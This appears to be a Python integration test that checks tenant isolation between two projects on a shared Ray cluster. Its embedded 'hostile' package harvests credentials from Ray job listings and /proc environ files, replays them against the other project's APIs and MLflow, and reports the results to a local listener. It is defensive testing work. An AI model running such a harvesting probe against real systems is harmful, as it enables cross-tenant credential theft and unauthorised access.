"""Two projects on one shared, multi-node Ray cluster (backend ``ray``): one study's code finds no
live credential of the other's.

A real uvicorn ``fedtune serve`` (backend ``ray``, code upload on, MLflow workspaces on a real
``fedtune mlflow-server`` with basic auth) submits each study's driver as a Ray job to a real
cluster started here: a head with no CPUs (the drivers) and a worker node (the trials, four
CPUs), every ``ray start`` in one PID namespace of the cluster's own
(:class:`tests.service.ray_cluster.PidNamespace`), as a cluster's machines are apart from the
service's: from inside it no process of the service, MLflow or the test is visible, while every
node's processes are (co-located there: the harder case).

Two projects, ``team-a`` and ``team-b``, each with a member who uploads a package and submits a
study with it. Project A's package is plain (its trials wait until the look-around is over, so
that A's driver is running, its ticket spent, while B's code looks). Project B's package is
hostile: in its trial it

* lists the cluster's jobs with their ``runtime_env`` three ways: Ray's job API
  (``JobSubmissionClient`` against the dashboard), ``ray.util.state.list_jobs`` and the
  dashboard's HTTP API (``GET /api/jobs/``), with the cluster's token from its own environment;
* reads every ``/proc/*/environ`` it can;
* collects every credential-looking string (``ftt_``/``ftd_``/``ftk_`` and the older
  ``ftd.<n>.<hex>`` tokens, 64-hex-digit keys, and the values of variables named like a token,
  ticket, password, secret or key);
* tries each one on study A's driver routes (redeem it as a ticket, read the study, read its
  code), on study A as an API token, and on MLflow as project A's driver user (and any user
  name it found), in team-a's workspace;
* reports all of it over loopback to a tiny HTTP listener this test runs.

B is submitted right after A and starts with it; its trial looks only once the test has seen A
running (a file the test then makes), as it did when B was submitted only then.

It finds A's start ticket (and every credential-looking value of A's job's ``runtime_env``), and
nothing live: every try fails. Redeeming A's spent ticket marks A's attempt compromised: A's
driver is stopped and A re-dispatched with a new ticket, and A then succeeds with records that
agree (the service, its Optuna storage, MLflow). Before the tickets (the driver token and the
project's MLflow password in the job's ``runtime_env``), the same probe read A's study and
logged into A's MLflow workspace: this test failed.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from fedtune.client import Client
from tests.integration.conftest import stop_group
from tests.integration.test_mlflow_tenancy import ADMIN_PASSWORD, start_server
from tests.mlflow_rest import get_run, mlflow_api
from tests.needs import need
from tests.ports import free_port
from tests.service.code_fixtures import write_package
from tests.service.helpers import Server, tiny_spec
from tests.service.ray_cluster import BACKEND_MODULES, LocalRayCluster, PidNamespace, session_pids

pytestmark = [pytest.mark.integration, pytest.mark.slow]

REPO = Path(__file__).resolve().parents[2]
TOKEN = "shared-ray-admin-token-0123456789abcdef"
#: variables whose values the probe treats as credentials (as ``NAMES`` in the probe)
SECRET_NAMES = re.compile(r"TOKEN|TICKET|PASSWORD|SECRET|KEY|AUTH", re.IGNORECASE)
#: how often the test looks at a study's status or for the hostile trial's report (seconds),
#: and the service's scheduler ticks: the product's default tick, not ``FAST``'s 0.5 s
#: (``tests/e2e/test_service_e2e.py``): a tick of the ``ray`` backend asks the head's dashboard
#: for each running study's job status (an HTTP call in the service, the dashboard and its job
#: module), and each status poll costs ~8 ms of CPU; twice a second, for minutes, with two
#: studies running, that was more than the second's wait is worth
POLL_S = 1.0
#: study A's trials: one is enough for all that is asserted of A (its driver runs, its ticket
#: spent, while B looks; then it succeeds with records that agree); each more is a trial process
A_TRIALS = 1

#: project A's code: the quadratic, its trials waiting (not its driver, which is sandboxed)
#: until the file GO exists, so that A's driver runs, its ticket spent, while B's code looks
PLAIN_TASKS = """
import os, sys, time
from fedtune.trainers.tasks import build_task, register_task

GO = {go!r}


def in_a_trial():
    # the code check and the (sandboxed) driver build the task once too: not there
    ray = sys.modules.get("ray")
    return not os.environ.get("FEDTUNE_SANDBOXED") and ray is not None and ray.is_initialized()


@register_task("user_quadratic", "the quadratic, once the neighbour has looked around")
def build(params, seed):
    if in_a_trial():
        deadline = time.monotonic() + 900
        while not os.path.exists(GO) and time.monotonic() < deadline:
            time.sleep(0.2)
    return build_task("quadratic", params, seed)
"""

#: project B's code: its trial waits until the file ``CONFIG["look"]`` exists (A's driver running,
#: its ticket spent), then looks around once, tries what it found, and reports
HOSTILE_TASKS = """
import base64, glob, json, os, re, sys, time, urllib.error, urllib.request
from fedtune.trainers.tasks import build_task, register_task

CONFIG = json.loads({config!r})
NAMES = re.compile(r"TOKEN|TICKET|PASSWORD|SECRET|KEY|AUTH", re.I)
USERS = re.compile(r"USER", re.I)
SHAPES = re.compile(r"ft[tdk]_[A-Za-z0-9_\\-]{{16,}}|ftd\\.\\d+\\.[0-9a-f]{{64}}|\\b[0-9a-f]{{64}}\\b")
PAIRS = re.compile(r"[\'\\"]?([A-Za-z_][A-Za-z0-9_]*)[\'\\"]?\\s*[:=]\\s*[\'\\"]([^\'\\"]{{6,}})[\'\\"]")


def collect(text, found, users):
    found.update(SHAPES.findall(text))
    for key, value in PAIRS.findall(text):
        if NAMES.search(key) and len(value) >= 12:
            found.add(value)
        elif USERS.search(key):
            users.add(value)


def environ_pairs(raw):
    out = []
    for item in raw.split(b"\\0"):
        key, sep, value = item.decode(errors="replace").partition("=")
        if sep:
            out.append(f"{{key}}=\'{{value}}\'")
    return "\\n".join(out)


def http(url, headers=None, data=None, method=None):
    request = urllib.request.Request(url, data=data, headers=headers or {{}}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:
            return answer.status, answer.read().decode(errors="replace")
    except urllib.error.HTTPError as exc:
        return exc.code, ""
    except Exception as exc:  # noqa: BLE001 - a hostile probe reports every outcome
        return -1, type(exc).__name__


def look():
    found, users, sources = set(), {{CONFIG["mlflow_user"]}}, {{}}
    ray_token = os.environ.get("RAY_AUTH_TOKEN", "")
    auth = {{"Authorization": f"Bearer {{ray_token}}"}} if ray_token else {{}}
    try:
        from ray.job_submission import JobSubmissionClient

        jobs = JobSubmissionClient(CONFIG["dashboard"], headers=auth).list_jobs()
        sources["job_submission"] = "\\n".join(repr(job) for job in jobs)
    except Exception as exc:  # noqa: BLE001
        sources["job_submission"] = "ERROR " + repr(exc)[:500]
    try:
        from ray.util.state import list_jobs

        jobs = list_jobs(address=CONFIG["dashboard"], detail=True)
        sources["state_api"] = "\\n".join(repr(job) for job in jobs)
    except Exception as exc:  # noqa: BLE001
        sources["state_api"] = "ERROR " + repr(exc)[:500]
    status, text = http(CONFIG["dashboard"] + "/api/jobs/", auth)
    sources["dashboard_http"] = text if status == 200 else f"ERROR {{status}} {{text[:300]}}"
    environs = 0
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            raw = open(path, "rb").read()
        except OSError:
            continue
        environs += 1
        collect(environ_pairs(raw), found, users)
    for text in sources.values():
        collect(text, found, users)
    found.discard("")
    api, mlflow, target = CONFIG["api"], CONFIG["mlflow"], CONFIG["target"]
    tries = []
    for secret in sorted(found):
        bearer = {{"Authorization": f"Bearer {{secret}}"}}
        driver = f"{{api}}/v1/driver/studies/{{target}}"
        tries.append(["redeem", secret, http(driver + "/ticket", bearer, b"", "POST")[0]])
        tries.append(["claim", secret, http(driver, bearer)[0]])
        tries.append(["code", secret, http(driver + "/code", bearer)[0]])
        tries.append(["api", secret, http(f"{{api}}/v1/studies/{{target}}", bearer)[0]])
        for user in sorted(users):
            basic = base64.b64encode(f"{{user}}:{{secret}}".encode()).decode()
            headers = {{"Authorization": f"Basic {{basic}}", "X-MLFLOW-WORKSPACE": "team-a"}}
            url = f"{{mlflow}}/api/2.0/mlflow/experiments/search?max_results=5"
            tries.append(["mlflow:" + user, secret, http(url, headers)[0]])
    return {{
        "sources": {{k: {{"ok": not v.startswith("ERROR"), "text": v[:200000]}} for k, v in sources.items()}},
        "environ_files": environs,
        "candidates": sorted(found),
        "users": sorted(users),
        "tries": tries,
        "live": [t for t in tries if t[2] == 200],
        "pids": len(glob.glob("/proc/[0-9]*")),
    }}


def report(body):
    data = json.dumps(body).encode()
    http(CONFIG["report"], {{"Content-Type": "application/json"}}, data, "POST")


def in_a_trial():
    # the code check and the (sandboxed) driver build the task once too: not there
    ray = sys.modules.get("ray")
    return not os.environ.get("FEDTUNE_SANDBOXED") and ray is not None and ray.is_initialized()


@register_task("user_quadratic", "the quadratic, after a look at the neighbours")
def build(params, seed):
    if in_a_trial():  # once
        try:
            fd = os.open(CONFIG["once"], os.O_CREAT | os.O_EXCL | os.O_WRONLY)
        except OSError:
            fd = None
        if fd is not None:
            os.close(fd)
            deadline = time.monotonic() + 900
            while not os.path.exists(CONFIG["look"]) and time.monotonic() < deadline:
                time.sleep(0.2)
            try:
                body = look()
            except Exception as exc:  # noqa: BLE001
                body = {{"error": repr(exc)}}
            report(body)
    return build_task("quadratic", params, seed)
"""


class Listener:
    """A loopback HTTP listener that keeps the JSON bodies POSTed to it."""

    def __init__(self) -> None:
        self.reports: list[dict[str, Any]] = []
        received = self.reports

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                size = int(self.headers.get("Content-Length", "0"))
                received.append(json.loads(self.rfile.read(size)))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                return

        self.server = ThreadingHTTPServer(("127.0.0.1", free_port()), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/report"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@dataclass(repr=False)  # a failing test's traceback shows its arguments: never a credential
class World:
    root: Path
    cluster: LocalRayCluster
    server: Server
    mlflow: str
    head_workdir: Path
    listener: Listener
    tokens: dict[str, str]  # user -> API token

    def job_runtime_env(self, submission_id: str) -> dict[str, Any]:
        """A Ray job's ``runtime_env``, from the Jobs API as ``JobSubmissionClient.get_job_info``
        reads it (``GET /api/jobs/<id>``), without importing Ray into this process (0.5 CPU-s,
        and a version check per client)."""
        token = self.cluster.client_env["RAY_AUTH_TOKEN"]
        reply = httpx.get(
            f"{self.cluster.address}/api/jobs/{submission_id}",
            headers={"Authorization": f"Bearer {token}"},
            timeout=60,
        )
        assert reply.status_code == 200, (reply.status_code, reply.text[:2000])
        return reply.json().get("runtime_env") or {}

    def sdk(self, user: str) -> Client:
        return Client(self.server.url, token=self.tokens[user], timeout=60)

    def __repr__(self) -> str:
        return f"World(root={self.root}, api={self.server.url}, mlflow={self.mlflow})"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    from fedtune.sandbox import sandbox_missing

    need("bwrap", sandbox_missing())
    tools = [t for t in ("unshare", "nsenter") if shutil.which(t) is None]
    no_namespace = None
    if os.geteuid() != 0 or tools:  # the box's need: root and namespaces
        no_namespace = f"the cluster's PID namespace needs root, unshare and nsenter ({tools})"
    need("box", no_namespace)
    root: Path = tmp_path_factory.mktemp("shared-ray")
    head_workdir = root / "head"
    stack = contextlib.ExitStack()
    mlflow_proc, mlflow = start_server(root)
    stack.callback(stop_group, mlflow_proc)
    listener = Listener()
    stack.callback(listener.close)
    namespace = PidNamespace()
    stack.callback(namespace.close)
    # the cluster's processes: the driver's settings and MLflow's address, no credential
    env = {
        "FEDTUNE_WORKDIR": str(head_workdir),
        "MLFLOW_TRACKING_URI": mlflow,
        "OMP_NUM_THREADS": "1",
        "PYTHONPATH": str(REPO),
    }
    # the head's dashboard serves what the service and the hostile trial call — the Jobs API
    # (``JobSubmissionClient``, ``GET /api/jobs/``) and the state API (``list_jobs``, the
    # backend's ``/api/v0/nodes``) — and nothing else, and there is no Ray Client server
    cluster = LocalRayCluster(
        env, head_cpus=0, enter=namespace.enter, lean=True, dashboard_modules=BACKEND_MODULES
    )
    server: Server | None = None
    sessions: list[int] = []
    try:
        cluster.start()
        # one worker node for every trial (the head holds the drivers): nothing here asks where
        # a trial runs, and a second worker's raylet, agents and ``ray start`` cost ~5 CPU-s
        cluster.add_node("a", num_cpus=4)
        sessions = cluster.sessions
        server = Server(
            {
                "FEDTUNE_DATABASE_URL": f"sqlite:///{root / 'fedtune.db'}",
                "FEDTUNE_WORKDIR": str(root / "api"),
                "FEDTUNE_BACKEND": "ray",
                "RAY_ADDRESS": cluster.address,
                "RAY_AUTH_TOKEN": cluster.client_env["RAY_AUTH_TOKEN"],
                "FEDTUNE_API_TOKEN": TOKEN,
                "FEDTUNE_ALLOW_CODE_UPLOAD": "1",
                "FEDTUNE_MAX_CONCURRENT_STUDIES": "2",
                "FEDTUNE_SCHEDULER_INTERVAL_S": str(POLL_S),
                # a driver's heartbeat (an API call, a row written) is where a re-dispatched
                # driver learns to stop; every 2 s, not 1: two drivers beat for minutes
                "FEDTUNE_HEARTBEAT_S": "2",
                "MLFLOW_TRACKING_URI": mlflow,
                "FEDTUNE_MLFLOW_WORKSPACES": "true",
                "FEDTUNE_MLFLOW_ADMIN_PASSWORD": ADMIN_PASSWORD,
                "MLFLOW_TRACKING_USERNAME": "admin",
                "MLFLOW_TRACKING_PASSWORD": ADMIN_PASSWORD,
                "PYTHONPATH": str(REPO),
            },
            root / "serve.log",
        )
        server.env["FEDTUNE_DRIVER_URL"] = server.url  # where the cluster's drivers report
        server.env.pop("FEDTUNE_CODE_SANDBOX", None)  # the real sandbox, as `need` checked
        server.start(timeout=180)
        tokens = _members(server)
        yield World(root, cluster, server, mlflow, head_workdir, listener, tokens)
    finally:
        if server is not None:
            server.stop()
        sessions = sessions or cluster.sessions
        cluster.stop()
        stack.close()
        assert not [p for s in sessions for p in session_pids(s)], "cluster processes survived"


def _members(server: Server) -> dict[str, str]:
    """Projects team-a and team-b, and a member of each: ``{user: API token}``."""
    admin = {"Authorization": f"Bearer {TOKEN}"}
    tokens = {}
    with httpx.Client(base_url=server.url, headers=admin, timeout=60) as api:
        for project, user in (("team-a", "alice"), ("team-b", "bob")):
            made = api.post("/v1/projects", json={"name": project})
            assert made.status_code == 201, made.text
            issued = api.post("/v1/users", json={"name": user, "project": project})
            assert issued.status_code == 201, issued.text
            tokens[user] = issued.json()["token"]
    return tokens


def _spec(name: str, trials: int) -> dict:
    return tiny_spec(
        name=name,
        trials=trials,
        rounds=3,
        task={"name": "user_quadratic", "clients": 6, "dim": 3},
        code={"modules": ["user_lab.tasks"]},
    )


def _wait(study: Any, predicate: Any, timeout_s: float, what: str) -> Any:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        status = study.status()
        if predicate(status):
            return status
        time.sleep(POLL_S)
    raise AssertionError(f"{what}: still {status.state} ({status.error})")


def _short(secret: str) -> str:
    """A credential as a failure message may show it: its first characters only."""
    return secret[:6] + "…"


@dataclass(repr=False)
class Outcome:
    a_id: str
    a_ticket_env: dict[str, str]  # the credential-looking variables of A's first job
    report: dict[str, Any]
    a_final: Any
    a_trials: list[Any]
    b_final: Any

    def __repr__(self) -> str:
        return f"Outcome(a={self.a_id}, a_state={self.a_final.state}, b={self.b_final.state})"


@pytest.fixture(scope="module")
def outcome(world: World) -> Outcome:
    go = world.root / "a-may-train"
    may_look = world.root / "b-may-look"
    plain = write_package(world.root / "lab-a", PLAIN_TASKS.format(go=str(go)))
    with world.sdk("alice") as alice, world.sdk("bob") as bob:
        a = alice.submit(_spec("plain", trials=A_TRIALS), code=plain, project="team-a")
        config = {
            "dashboard": world.cluster.address,
            "api": world.server.url,
            "mlflow": world.mlflow,
            "mlflow_user": "fedtune-driver-team-a",
            "target": a.id,
            "report": world.listener.url,
            "once": str(world.root / "looked"),
            "look": str(may_look),
        }
        hostile = write_package(
            world.root / "lab-b", HOSTILE_TASKS.format(config=json.dumps(config))
        )
        # B starts while A does (its code check, driver and trial start: a minute and more of
        # the whole stack's idle time saved), and its trial looks only once A is running
        b = bob.submit(_spec("hostile", trials=1), code=hostile, project="team-b")
        # A's driver has redeemed its ticket once its first trial is recorded
        _wait(a, lambda s: s.progress.running >= 1 or s.done, 600, "study A never started")
        env = world.job_runtime_env(f"fedtune-{a.id}-1").get("env_vars", {})
        a_env = {k: v for k, v in env.items() if SECRET_NAMES.search(k)}
        may_look.touch()  # B's trial may look now
        deadline = time.monotonic() + 600
        while not world.listener.reports and time.monotonic() < deadline:
            time.sleep(POLL_S)
        assert world.listener.reports, (
            f"the hostile trial never reported: {b.status().state} {b.status().error}"
        )
        go.touch()  # A's trials may train now
        a_final = _wait(a, lambda s: s.done, 900, "study A did not end")
        b_final = _wait(b, lambda s: s.done, 600, "study B did not end")
        a_trials = a.trials()
    return Outcome(a.id, a_env, world.listener.reports[0], a_final, a_trials, b_final)


def test_the_hostile_trial_lists_every_job_and_reads_the_clusters_environments(
    world: World, outcome: Outcome
) -> None:
    report = outcome.report
    assert "error" not in report, report.get("error")
    for name in ("job_submission", "state_api", "dashboard_http"):
        source = report["sources"][name]
        assert source["ok"], (name, source["text"][:500])
        assert f"fedtune-{outcome.a_id}-1" in source["text"], name  # A's job, listed
    assert report["environ_files"] > 5  # the cluster's processes, its own and A's among them
    # every credential-looking value of A's job was found
    assert outcome.a_ticket_env, "A's job carries no ticket"
    missing = [k for k, v in outcome.a_ticket_env.items() if v not in report["candidates"]]
    assert missing == [], missing
    # no process of the service, MLflow or this test: the cluster's PID namespace only
    assert str(TOKEN) not in report["candidates"]
    assert ADMIN_PASSWORD not in report["candidates"]


def test_nothing_the_hostile_trial_found_is_live(outcome: Outcome) -> None:
    report = outcome.report
    live = [(what, _short(secret), status) for what, secret, status in report["live"]]
    assert live == [], live
    assert report["tries"], "it tried nothing"
    for what, secret, status in report["tries"]:
        if what.startswith("mlflow:"):
            assert status in (401, 403), (what, _short(secret), status)
        else:  # 404 unknown, 401 revoked or expired, 409 spent
            assert status in (401, 404, 409), (what, _short(secret), status)


def test_the_other_study_succeeds_with_records_that_agree(world: World, outcome: Outcome) -> None:
    import optuna

    final = outcome.a_final
    assert final.state == "succeeded", final.error
    # its spent ticket, redeemed by the hostile trial: the attempt was marked compromised,
    # its driver stopped and the study re-dispatched with a new ticket
    assert [(e.kind, e.attempt) for e in final.events] == [("driver_ticket_reused", 1)]
    assert final.attempts >= 2
    assert final.progress.completed == A_TRIALS
    completed = sorted(t.number for t in outcome.a_trials if t.state == "completed")
    assert len(completed) == A_TRIALS
    storage = f"sqlite:///{world.head_workdir / 'studies' / outcome.a_id / 'optuna.db'}"
    optuna_study = optuna.load_study(study_name=final.name, storage=storage)
    done = sorted(
        t.number for t in optuna_study.trials if t.state == optuna.trial.TrialState.COMPLETE
    )
    assert done == completed
    with mlflow_api(world.mlflow, auth=("admin", ADMIN_PASSWORD), workspace="team-a") as api:
        assert get_run(api, final.mlflow.run_id).status == "FINISHED"
        for trial in outcome.a_trials:
            if trial.state == "completed":
                run = get_run(api, trial.mlflow_run_id)
                assert run.status == "FINISHED" and run.metrics, trial.number
    log = world.server.log.read_text()
    assert f"study {outcome.a_id}: attempt 1's start ticket was redeemed a second time" in log
    for secret in outcome.report["candidates"]:
        assert secret not in log, _short(secret)  # no ticket or credential is ever logged
    assert outcome.b_final.done
